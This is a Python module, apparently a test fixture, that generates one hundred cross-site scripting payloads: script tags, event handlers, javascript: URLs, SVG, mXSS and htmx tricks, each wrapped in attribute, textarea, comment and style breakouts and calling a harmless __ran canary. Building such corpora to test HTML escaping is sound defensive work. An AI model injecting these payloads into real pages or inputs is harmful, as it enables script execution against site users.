"""A hundred texts that would run, if a page ever took text for markup."""

from __future__ import annotations

_RUN = "__ran({n})"

# Each calls __ran with its number, which a page that listens can tell.
_VECTORS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script src=data:text/javascript,{run}></script>",
    "<img src=x onerror={run}>",
    "<img src=x onerror='{run}' //",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<body onload={run}>",
    "<iframe src=javascript:parent.{run}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<a href=javascript:{run} autofocus onfocus={run}>x</a>",
    "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}>x</details>",
    "<video><source onerror={run}></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<div hx-get=/console/ hx-trigger=load hx-on::load={run}>x</div>",
    "<div hx-on:htmx:load='{run}' data-hx-trigger='load[{run}]' data-hx-get='/'>x</div>",
    "{{{{ {run} }}}} {{% raw %}} ${{{run}}} <%= {run} %>",
    "&lt;script&gt;{run}&lt;/script&gt; &#60;img src=x onerror={run}&#62;",
    "javascript:{run}//",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href=javascript:{run}//><style>@import 'javascript:{run}';</style>",
)

# Where the text stands on the page decides what it would have to break out of.
_BREAKOUTS = ("{vector}", "\"'>{vector}", "</textarea></title></script>{vector}", "--></style>]]>`{vector}")

PAYLOADS = [
    breakout.format(vector=vector.format(run=_RUN.format(n=place * len(_VECTORS) + number)))
    for place, breakout in enumerate(_BREAKOUTS)
    for number, vector in enumerate(_VECTORS)
]
